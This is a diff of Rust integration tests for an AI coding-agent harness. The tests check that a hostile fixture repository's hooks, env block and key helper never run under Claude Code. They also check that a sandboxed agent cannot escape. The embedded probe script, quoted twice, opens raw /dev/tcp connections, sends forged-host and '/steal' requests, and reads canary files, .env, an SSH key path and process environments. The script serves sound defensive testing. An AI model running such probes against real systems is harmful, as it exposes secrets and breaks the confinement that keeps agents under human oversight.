@@ -432,9 +432,6 @@ fn markers_in(dir: &Path) -> Vec<String> {
 #[test]
 fn the_repositorys_hooks_mcp_servers_and_env_never_run_under_claude_code() {
     let Some(claude) = claude_binary() else {
-        eprintln!(
-            "SKIPPED: no Claude Code CLI (run scripts/setup-agents.sh or set REPOPROBE_CLAUDE)"
-        );
         return;
     };
     let scratch = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
@@ -446,117 +443,137 @@ fn the_repositorys_hooks_mcp_servers_and_env_never_run_under_claude_code() {
     let evil_port: u16 = evil_base.rsplit(':').next().unwrap().parse().unwrap();
     let w = world(Some(&hostile_repo(&markers, evil_port)));
 
-    // The fixture is hostile for real: Claude Code started in a plain clone of it, without our
-    // flags, runs the repository's hooks (a newer CLI that stopped would make this test vacuous).
-    {
-        let clone = scratch.path().join("clone");
-        let out = Command::new("git")
-            .args(["clone", "-q"])
-            .arg(&w.repo)
-            .arg(&clone)
-            .output()
-            .unwrap();
-        assert!(out.status.success());
-        let (base, _seen) = fake_anthropic();
-        let home = scratch.path().join("control-home");
-        std::fs::create_dir_all(&home).unwrap();
-        let r = Command::new(&claude)
-            .current_dir(&clone)
-            .env_clear()
-            .env("PATH", std::env::var_os("PATH").unwrap())
-            .env("HOME", &home)
-            .env("ANTHROPIC_API_KEY", ANTHROPIC_KEY)
-            .env("ANTHROPIC_BASE_URL", &base)
-            .args([
-                "-p",
-                "--output-format",
-                "json",
-                "--model",
-                "claude-sonnet-4-5",
-            ])
-            .args(["--max-turns", "3", "--tools", "Read,Grep,Glob"])
-            .arg("--no-session-persistence")
-            .stdin(std::fs::File::open(&w.bench).unwrap())
-            .output()
-            .unwrap();
-        let ran = markers_in(&markers);
-        assert!(
-            ran.iter().any(|m| m.contains("SessionStart")),
-            "the control run did not run the project hooks ({ran:?}); stdout {} stderr {}",
-            String::from_utf8_lossy(&r.stdout),
-            String::from_utf8_lossy(&r.stderr)
-        );
-        for m in ran {
-            std::fs::remove_file(markers.join(m)).unwrap();
-        }
-        evil_seen.lock().unwrap().clear();
-    }
-
+    the_fixture_runs_its_hooks_without_our_flags(&claude, scratch.path(), &w, &markers, &evil_seen);
     for confined in [true, false] {
-        let (base, seen) = fake_anthropic();
-        let mut c = w.answer();
-        c.env("ANTHROPIC_API_KEY", ANTHROPIC_KEY)
-            .env("ANTHROPIC_BASE_URL", &base)
-            .args(["--agent", "claude-code", "--model", "claude-sonnet-4-5"])
-            .args([
-                "--max-turns",
-                "5",
-                "--attempts",
-                if confined { "1" } else { "2" },
-                "--agent-timeout-s",
-                "120",
-            ])
-            .arg("--agent-bin")
-            .arg(&claude);
-        if !confined {
-            c.arg("--no-sandbox");
-        }
-        let r = c.output().unwrap();
-        let stderr = stderr_of(&r);
-        assert_eq!(r.status.code(), Some(0), "{stderr}");
-        let recs = records(&w.out);
-        let a = recs.last().unwrap();
-        assert_eq!(
-            a["error"],
-            Value::Null,
-            "confined {confined}: {a}\n{stderr}"
-        );
-        let answer = a["answer"].as_str().unwrap();
-        assert!(answer.contains(FILE_CONTENT), "{answer}");
-        assert_nothing_leaked(&w, &r, answer);
-        assert!(!w.written().contains(ANTHROPIC_KEY));
-        assert_eq!(
-            markers_in(&markers),
-            Vec::<String>::new(),
-            "confined {confined}: the repository's own configuration ran"
-        );
-        let agent = &a["agent"];
-        assert_eq!(
-            agent["worktree_changed"], false,
-            "confined {confined}: a hook wrote into the worktree: {agent}"
-        );
-        assert!(
-            evil_seen.lock().unwrap().is_empty(),
-            "the repository's env block redirected the API"
-        );
-        assert!(!seen.lock().unwrap().is_empty());
-        assert_eq!(
-            agent["sandbox"]
-                .as_str()
-                .unwrap()
-                .starts_with("bubblewrap "),
-            confined,
-            "{agent}"
-        );
-        // The key Claude Code got is the one passed, never the repository's apiKeyHelper's.
-        assert!(
-            seen.lock()
-                .unwrap()
-                .iter()
-                .all(|(_, k, _)| k.as_deref() == Some(ANTHROPIC_KEY)),
-            "a request went out with another key"
-        );
+        the_repositorys_configuration_never_runs(&claude, &w, &markers, &evil_seen, confined);
     }
+}
+
+/// The fixture is hostile for real: Claude Code started in a plain clone of it, without our
+/// flags, runs the repository's hooks (a newer CLI that stopped would make the test vacuous).
+/// Clears the markers and the redirected API's requests it left.
+fn the_fixture_runs_its_hooks_without_our_flags(
+    claude: &Path,
+    scratch: &Path,
+    w: &World,
+    markers: &Path,
+    evil_seen: &Seen,
+) {
+    let clone = scratch.join("clone");
+    let out = Command::new("git")
+        .args(["clone", "-q"])
+        .arg(&w.repo)
+        .arg(&clone)
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let (base, _seen) = fake_anthropic();
+    let home = scratch.join("control-home");
+    std::fs::create_dir_all(&home).unwrap();
+    let r = Command::new(claude)
+        .current_dir(&clone)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap())
+        .env("HOME", &home)
+        .env("ANTHROPIC_API_KEY", ANTHROPIC_KEY)
+        .env("ANTHROPIC_BASE_URL", &base)
+        .args([
+            "-p",
+            "--output-format",
+            "json",
+            "--model",
+            "claude-sonnet-4-5",
+        ])
+        .args(["--max-turns", "3", "--tools", "Read,Grep,Glob"])
+        .arg("--no-session-persistence")
+        .stdin(std::fs::File::open(&w.bench).unwrap())
+        .output()
+        .unwrap();
+    let ran = markers_in(markers);
+    assert!(
+        ran.iter().any(|m| m.contains("SessionStart")),
+        "the control run did not run the project hooks ({ran:?}); stdout {} stderr {}",
+        String::from_utf8_lossy(&r.stdout),
+        String::from_utf8_lossy(&r.stderr)
+    );
+    for m in ran {
+        std::fs::remove_file(markers.join(m)).unwrap();
+    }
+    evil_seen.lock().unwrap().clear();
+}
+
+/// One `answer --agent claude-code` run, confined or with `--no-sandbox`: the repository's
+/// hooks, MCP servers, env block and key helper never run, and the answer is still right.
+fn the_repositorys_configuration_never_runs(
+    claude: &Path,
+    w: &World,
+    markers: &Path,
+    evil_seen: &Seen,
+    confined: bool,
+) {
+    let (base, seen) = fake_anthropic();
+    let mut c = w.answer();
+    c.env("ANTHROPIC_API_KEY", ANTHROPIC_KEY)
+        .env("ANTHROPIC_BASE_URL", &base)
+        .args(["--agent", "claude-code", "--model", "claude-sonnet-4-5"])
+        .args([
+            "--max-turns",
+            "5",
+            "--attempts",
+            if confined { "1" } else { "2" },
+            "--agent-timeout-s",
+            "120",
+        ])
+        .arg("--agent-bin")
+        .arg(claude);
+    if !confined {
+        c.arg("--no-sandbox");
+    }
+    let r = c.output().unwrap();
+    let stderr = stderr_of(&r);
+    assert_eq!(r.status.code(), Some(0), "{stderr}");
+    let recs = records(&w.out);
+    let a = recs.last().unwrap();
+    assert_eq!(
+        a["error"],
+        Value::Null,
+        "confined {confined}: {a}\n{stderr}"
+    );
+    let answer = a["answer"].as_str().unwrap();
+    assert!(answer.contains(FILE_CONTENT), "{answer}");
+    assert_nothing_leaked(w, &r, answer);
+    assert!(!w.written().contains(ANTHROPIC_KEY));
+    assert_eq!(
+        markers_in(markers),
+        Vec::<String>::new(),
+        "confined {confined}: the repository's own configuration ran"
+    );
+    let agent = &a["agent"];
+    assert_eq!(
+        agent["worktree_changed"], false,
+        "confined {confined}: a hook wrote into the worktree: {agent}"
+    );
+    assert!(
+        evil_seen.lock().unwrap().is_empty(),
+        "the repository's env block redirected the API"
+    );
+    assert!(!seen.lock().unwrap().is_empty());
+    assert_eq!(
+        agent["sandbox"]
+            .as_str()
+            .unwrap()
+            .starts_with("bubblewrap "),
+        confined,
+        "{agent}"
+    );
+    // The key Claude Code got is the one passed, never the repository's apiKeyHelper's.
+    assert!(
+        seen.lock()
+            .unwrap()
+            .iter()
+            .all(|(_, k, _)| k.as_deref() == Some(ANTHROPIC_KEY)),
+        "a request went out with another key"
+    );
 }
 
 /// Processes whose command line contains `needle`.
@@ -607,21 +624,22 @@ fn a_confined_agent_that_times_out_or_leaves_children_leaves_no_process_behind()
     assert_eq!(records(&w.out)[1]["answer"], "done");
     // The sandbox's PID namespace dies with its first process: nothing escapes it, not even a
     // process that left our process group.
-    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
-    loop {
-        let left: Vec<String> = [a, b, c]
-            .iter()
-            .flat_map(|n| processes_with(&format!("sleep {n}")))
-            .collect();
-        if left.is_empty() {
-            break;
-        }
-        assert!(
-            std::time::Instant::now() < deadline,
-            "left running: {left:?}"
-        );
-        std::thread::sleep(std::time::Duration::from_millis(100));
-    }
+    common::wait::every(
+        std::time::Duration::from_millis(100),
+        "the agent's processes to be gone",
+        std::time::Duration::from_secs(30),
+        || {
+            let left: Vec<String> = [a, b, c]
+                .iter()
+                .flat_map(|n| processes_with(&format!("sleep {n}")))
+                .collect();
+            if left.is_empty() {
+                Ok(())
+            } else {
+                Err(format!("left running: {left:?}"))
+            }
+        },
+    );
 }
 
 /// A canary file outside everything a run needs (`/opt`), removed when dropped.
@@ -646,6 +664,138 @@ fn recording_server(
         repoprobe_test_support::Response::new(200, answer(req))
     });
     (server, hits)
+}
+
+/// The probe's shell script: each line tags what it tried (`TCP-OTHER: …`) and what came of
+/// it, file contents rot13'd so that a canary is not found in the probe's own source.
+fn probe_script(
+    bridge: u16,
+    other_port: u16,
+    api_port: u16,
+    canary: &Path,
+    start: &Path,
+) -> String {
+    format!(
+        r#"exec 2>&1
+r() {{ tr 'A-Za-z' 'N-ZA-Mn-za-m'; }}
+tcp() {{ timeout 5 bash -c "exec 3<>/dev/tcp/$1/$2 && echo open" 2>&1 | head -c 200 | tr '\n' ' '; }}
+ask() {{ timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{bridge} || exit 1; printf "$0" >&3; cat <&3' "$1" 2>&1 | head -c 300 | tr '\r\n' '  '; }}
+echo "TCP-OTHER: $(tcp 127.0.0.1 {other_port})"
+echo "TCP-API: $(tcp 127.0.0.1 {api_port})"
+echo "DNS: $(timeout 5 getent hosts example.com || echo failed)"
+echo "CONNECT: $(ask 'CONNECT 127.0.0.1:{other_port} HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\n\r\n')"
+echo "ABSOLUTE: $(ask 'GET http://127.0.0.1:{other_port}/steal HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\nConnection: close\r\n\r\n')"
+echo "FORGED-HOST: $(ask 'GET /forged HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\nx-api-key: '"$PROBE_API_KEY"'\r\nConnection: close\r\n\r\n')"
+echo "NUL-HOST: $(ask 'GET http://evil\0.example/ HTTP/1.1\r\nHost: evil\0.example\r\nConnection: close\r\n\r\n')"
+echo "API: $(ask 'GET /v1/ping HTTP/1.1\r\nHost: x\r\nx-api-key: '"$PROBE_API_KEY"'\r\nConnection: close\r\n\r\n')"
+echo "URL: $REPOPROBE_API_URL"
+echo "OPT: $(ls /opt 2>&1; cat {canary}/canary.txt 2>&1 | r)"
+echo "CWD: $(cat {start}/canary.txt {start}/.env 2>&1 | r)"
+echo "ROOT: $(ls / | tr '\n' ' ')"
+echo "SSH-LINK: $(cat keys/id_ed25519 2>&1 | r)"
+for f in /proc/[0-9]*/environ; do echo "ENV $f: $(tr '\0' ' ' < $f 2>&1 | r)"; done
+echo edited > EDITED.md && echo "EDIT: ok"
+"#,
+        canary = canary.display(),
+        start = start.display(),
+    )
+}
+
+/// The probe's answer, read by tag.
+struct ProbeLines<'a>(&'a str);
+
+impl ProbeLines<'_> {
+    fn line(&self, tag: &str) -> String {
+        self.0
+            .lines()
+            .find(|l| l.starts_with(&format!("{tag}: ")))
+            .unwrap_or_else(|| panic!("no {tag} line in {}", self.0))
+            .to_string()
+    }
+}
+
+/// No connection but through the proxy, no name resolved, nothing but the API reached, and
+/// reached with the real key the agent never held.
+fn assert_the_network_is_the_api_alone(
+    p: &ProbeLines<'_>,
+    other_hits: &Hits,
+    api_hits: &Hits,
+    api_key: &str,
+    bridge: u16,
+) {
+    let answer = p.0;
+    let line = |tag: &str| p.line(tag);
+    // No connection but through the proxy, no name resolved.
+    assert!(!line("TCP-OTHER").contains("open"), "{answer}");
+    assert!(!line("TCP-API").contains("open"), "{answer}");
+    assert!(line("DNS").contains("failed"), "{answer}");
+    // The proxy refuses what names another origin, and Host leads nowhere else.
+    assert!(line("CONNECT").contains(" 403 "), "{answer}");
+    assert!(
+        line("CONNECT").contains("CONNECT is not served"),
+        "{answer}"
+    );
+    assert!(line("ABSOLUTE").contains(" 403 "), "{answer}");
+    assert!(line("FORGED-HOST").contains("api-ok /forged"), "{answer}");
+    let nul = line("NUL-HOST");
+    assert!(nul.contains(" 400 ") || nul.contains(" 403 "), "{answer}");
+    assert!(
+        other_hits.lock().unwrap().is_empty(),
+        "the other server was reached"
+    );
+    // The API is reached with the real key, put in by the proxy; the agent held a placeholder.
+    assert!(line("API").contains("api-ok /v1/ping"), "{answer}");
+    assert!(
+        line("URL").contains(&format!("http://127.0.0.1:{bridge}")),
+        "{answer}"
+    );
+    let seen = api_hits.lock().unwrap();
+    assert!(seen.iter().any(|q| q.path == "/v1/ping"), "{answer}");
+    for q in seen.iter() {
+        assert_eq!(q.header("x-api-key"), Some(api_key), "{}", q.path);
+    }
+    assert!(
+        !answer.contains(&rot13(api_key)) && !answer.contains(api_key),
+        "{answer}"
+    );
+    assert!(
+        answer.contains(&rot13("PROBE_API_KEY=repoprobe-placeholder-probe-api-key-")),
+        "{answer}"
+    );
+}
+
+/// Nothing of the host's files but the system's and the run's own.
+fn assert_no_host_file_is_seen(p: &ProbeLines<'_>) {
+    let answer = p.0;
+    let line = |tag: &str| p.line(tag);
+    assert!(!answer.contains(&rot13("CANARY OPT")), "{answer}");
+    assert!(!answer.contains(&rot13("CANARY CWD")), "{answer}");
+    assert!(!answer.contains(&rot13("CANARY DOTENV")), "{answer}");
+    let root = line("ROOT");
+    // (But the top directory of the checkout, where the agent's program and the worktree live.)
+    let top = |p: &str| {
+        Path::new(p)
+            .components()
+            .nth(1)
+            .map(|c| c.as_os_str().to_string_lossy().into_owned())
+    };
+    let ours = [
+        top(env!("CARGO_MANIFEST_DIR")),
+        top(env!("CARGO_TARGET_TMPDIR")),
+    ];
+    for gone in ["opt", "srv", "home", "root", "var", "mnt"] {
+        if ours.iter().any(|o| o.as_deref() == Some(gone)) {
+            continue;
+        }
+        assert!(
+            !format!(" {root} ").contains(&format!(" {gone} ")),
+            "{gone} exists: {root}"
+        );
+    }
+    assert!(
+        line("SSH-LINK").contains(&rot13("No such file")),
+        "{answer}"
+    );
 }
 
 #[test]
@@ -679,30 +829,7 @@ fn a_hostile_probe_reaches_the_api_alone_with_a_placeholder_key_and_sees_no_file
     std::fs::write(start.join("canary.txt"), "CANARY CWD words").unwrap();
     std::fs::write(start.join(".env"), "CANARY DOTENV words").unwrap();
     let bridge = repoprobe_agent::proxy::BRIDGE_PORT;
-    let probe = format!(
-        r#"exec 2>&1
-r() {{ tr 'A-Za-z' 'N-ZA-Mn-za-m'; }}
-tcp() {{ timeout 5 bash -c "exec 3<>/dev/tcp/$1/$2 && echo open" 2>&1 | head -c 200 | tr '\n' ' '; }}
-ask() {{ timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{bridge} || exit 1; printf "$0" >&3; cat <&3' "$1" 2>&1 | head -c 300 | tr '\r\n' '  '; }}
-echo "TCP-OTHER: $(tcp 127.0.0.1 {other_port})"
-echo "TCP-API: $(tcp 127.0.0.1 {api_port})"
-echo "DNS: $(timeout 5 getent hosts example.com || echo failed)"
-echo "CONNECT: $(ask 'CONNECT 127.0.0.1:{other_port} HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\n\r\n')"
-echo "ABSOLUTE: $(ask 'GET http://127.0.0.1:{other_port}/steal HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\nConnection: close\r\n\r\n')"
-echo "FORGED-HOST: $(ask 'GET /forged HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\nx-api-key: '"$PROBE_API_KEY"'\r\nConnection: close\r\n\r\n')"
-echo "NUL-HOST: $(ask 'GET http://evil\0.example/ HTTP/1.1\r\nHost: evil\0.example\r\nConnection: close\r\n\r\n')"
-echo "API: $(ask 'GET /v1/ping HTTP/1.1\r\nHost: x\r\nx-api-key: '"$PROBE_API_KEY"'\r\nConnection: close\r\n\r\n')"
-echo "URL: $REPOPROBE_API_URL"
-echo "OPT: $(ls /opt 2>&1; cat {canary}/canary.txt 2>&1 | r)"
-echo "CWD: $(cat {start}/canary.txt {start}/.env 2>&1 | r)"
-echo "ROOT: $(ls / | tr '\n' ' ')"
-echo "SSH-LINK: $(cat keys/id_ed25519 2>&1 | r)"
-for f in /proc/[0-9]*/environ; do echo "ENV $f: $(tr '\0' ' ' < $f 2>&1 | r)"; done
-echo edited > EDITED.md && echo "EDIT: ok"
-"#,
-        canary = canary.0.display(),
-        start = start.display(),
-    );
+    let probe = probe_script(bridge, other_port, api_port, &canary.0, &start);
     let r = w
         .answer()
         .current_dir(&start)
@@ -725,79 +852,9 @@ echo edited > EDITED.md && echo "EDIT: ok"
     let a = &recs[0];
     let answer = a["answer"].as_str().unwrap_or_else(|| panic!("{a}"));
     assert_nothing_leaked(&w, &r, answer);
-    let line = |tag: &str| {
-        answer
-            .lines()
-            .find(|l| l.starts_with(&format!("{tag}: ")))
-            .unwrap_or_else(|| panic!("no {tag} line in {answer}"))
-            .to_string()
-    };
-    // No connection but through the proxy, no name resolved.
-    assert!(!line("TCP-OTHER").contains("open"), "{answer}");
-    assert!(!line("TCP-API").contains("open"), "{answer}");
-    assert!(line("DNS").contains("failed"), "{answer}");
-    // The proxy refuses what names another origin, and Host leads nowhere else.
-    assert!(line("CONNECT").contains(" 403 "), "{answer}");
-    assert!(
-        line("CONNECT").contains("CONNECT is not served"),
-        "{answer}"
-    );
-    assert!(line("ABSOLUTE").contains(" 403 "), "{answer}");
-    assert!(line("FORGED-HOST").contains("api-ok /forged"), "{answer}");
-    let nul = line("NUL-HOST");
-    assert!(nul.contains(" 400 ") || nul.contains(" 403 "), "{answer}");
-    assert!(
-        other_hits.lock().unwrap().is_empty(),
-        "the other server was reached"
-    );
-    // The API is reached with the real key, put in by the proxy; the agent held a placeholder.
-    assert!(line("API").contains("api-ok /v1/ping"), "{answer}");
-    assert!(
-        line("URL").contains(&format!("http://127.0.0.1:{bridge}")),
-        "{answer}"
-    );
-    let seen = api_hits.lock().unwrap();
-    assert!(seen.iter().any(|q| q.path == "/v1/ping"), "{answer}");
-    for q in seen.iter() {
-        assert_eq!(q.header("x-api-key"), Some(api_key.as_str()), "{}", q.path);
-    }
-    assert!(
-        !answer.contains(&rot13(&api_key)) && !answer.contains(&api_key),
-        "{answer}"
-    );
-    assert!(
-        answer.contains(&rot13("PROBE_API_KEY=repoprobe-placeholder-probe-api-key-")),
-        "{answer}"
-    );
-    // Nothing of the host's files but the system's and the run's own.
-    assert!(!answer.contains(&rot13("CANARY OPT")), "{answer}");
-    assert!(!answer.contains(&rot13("CANARY CWD")), "{answer}");
-    assert!(!answer.contains(&rot13("CANARY DOTENV")), "{answer}");
-    let root = line("ROOT");
-    // (But the top directory of the checkout, where the agent's program and the worktree live.)
-    let top = |p: &str| {
-        Path::new(p)
-            .components()
-            .nth(1)
-            .map(|c| c.as_os_str().to_string_lossy().into_owned())
-    };
-    let ours = [
-        top(env!("CARGO_MANIFEST_DIR")),
-        top(env!("CARGO_TARGET_TMPDIR")),
-    ];
-    for gone in ["opt", "srv", "home", "root", "var", "mnt"] {
-        if ours.iter().any(|o| o.as_deref() == Some(gone)) {
-            continue;
-        }
-        assert!(
-            !format!(" {root} ").contains(&format!(" {gone} ")),
-            "{gone} exists: {root}"
-        );
-    }
-    assert!(
-        line("SSH-LINK").contains(&rot13("No such file")),
-        "{answer}"
-    );
+    let p = ProbeLines(answer);
+    assert_the_network_is_the_api_alone(&p, &other_hits, &api_hits, &api_key, bridge);
+    assert_no_host_file_is_seen(&p);
     // Its edit is still recorded.
     assert!(answer.contains("EDIT: ok"), "{answer}");
     assert_eq!(a["agent"]["worktree_changed"], true, "{a}");
